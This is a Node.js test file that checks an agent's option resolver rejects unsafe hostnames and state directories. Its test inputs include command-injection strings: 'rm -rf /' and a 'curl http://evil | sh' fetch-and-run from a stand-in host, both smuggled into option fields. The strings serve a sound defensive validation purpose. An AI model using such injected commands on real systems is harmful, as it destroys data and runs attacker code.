import assert from 'node:assert/strict';
import { test } from 'node:test';
import { isSiteportError } from '@siteport/protocol';
import { resolveAgentOptions } from './agent-options.js';

test('the agent refuses at start a host name or state dir the site would refuse in every heartbeat', () => {
  assert.equal(
    resolveAgentOptions({ stateDir: '/var/lib/siteport-agent', hostname: 'pc-17.corp.example' }).hostname,
    'pc-17.corp.example',
  );
  for (const options of [
    { stateDir: '/var/lib/siteport-agent', hostname: 'pc; rm -rf /' },
    { stateDir: '/var/lib/siteport-agent', hostname: 'pc\nforged' },
    { stateDir: '/tmp/x; curl http://evil | sh; #', hostname: 'pc' },
  ]) {
    assert.throws(
      () => resolveAgentOptions(options),
      (error) => isSiteportError(error, 'E_OPTION'),
      JSON.stringify(options),
    );
  }
});
